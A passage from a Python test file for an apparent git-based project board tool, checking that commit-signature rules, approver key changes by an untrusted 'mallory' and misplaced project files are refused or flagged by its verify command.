        "-q",
        "-S",
        "-m",
        "new runner",
        check=False,
    )
    assert mallory.returncode != 0 and "signed by an existing approver" in mallory.stderr
    # commit.gpgsign (here through git -c, as a person's config would) counts as -S.
    before = head(board_path)
    proc = git(board_path, "-c", "commit.gpgsign=true", "commit", "-q", "-m", "new runner")
    assert proc.returncode == 0, proc.stderr
    assert git(board_path, "rev-parse", "HEAD^").stdout.strip() == before
    assert run_mc(board_path, "verify").returncode == 0
    # -S with the approver's key: accepted; an option's value that looks like -S is not -S.
    _runner_to(board_path, "true")
    assert "signed by an existing approver" in refused(board_path, "-S")
    accepted(board_path, "another runner", "-S")
    assert run_mc(board_path, "verify").returncode == 0


def test_verify_judges_signatures_by_the_last_valid_signers(
    board: Board, board_path: Path, keys: dict[str, Key]
) -> None:
    """Issue 12.3: an unsigned commit adds mallory's key, mallory signs an approval; both
    commits are violations (the daemon refuses both; verify did not see the second)."""
    to_review(board, "alpha")
    signers = board_path / ".mc" / "allowed_signers"
    key = keys["mallory"].public_text.split()
    signers.write_text(signers.read_text() + f'mallory namespaces="git" {key[0]} {key[1]}\n')
    git(board_path, "add", ".mc/allowed_signers")
    added = sneak(board_path, "mallory approves now")
    approval = hand_approval(
        board_path,
        "alpha",
        reviewed=review_commit(board_path, "alpha"),
        by="mallory",
        sign_with=keys["mallory"],
    )
    proc = run_mc(board_path, "verify", "--json")
    assert proc.returncode == 1
    found = {(v["commit"], v["path"]) for v in json.loads(proc.stdout)}
    assert (added, ".mc/allowed_signers") in found
    assert (approval, "done/alpha.yaml") in found, found
    # A later commit that changes nothing about signers does not make mallory's key good.
    write(board_path / "notes.txt", "a note\n")
    git(board_path, "add", "notes.txt")
    sneak(board_path, "a note")
    actions.new_project(board, "Beta", "coder", project_id="beta")
    proc = run_mc(board_path, "verify", "--json")
    assert (approval, "done/alpha.yaml") in {
        (v["commit"], v["path"]) for v in json.loads(proc.stdout)
    }


def test_a_project_astray_in_a_folder_of_ones_own_is_refused(board_path: Path) -> None:
    """Issue 12.5: not only at the top: misc/x.yaml that is a project is one put astray;
    other YAML there is the person's own."""
    write(board_path / "misc" / "x.yaml", VALID)
    git(board_path, "add", "misc/x.yaml")
    assert "misc/x.yaml: project files belong in a lane folder" in refused(board_path)
    write(board_path / "misc" / "x.yaml", "colour: blue\n")
    git(board_path, "add", "misc/x.yaml")
    accepted(board_path, "my own settings")
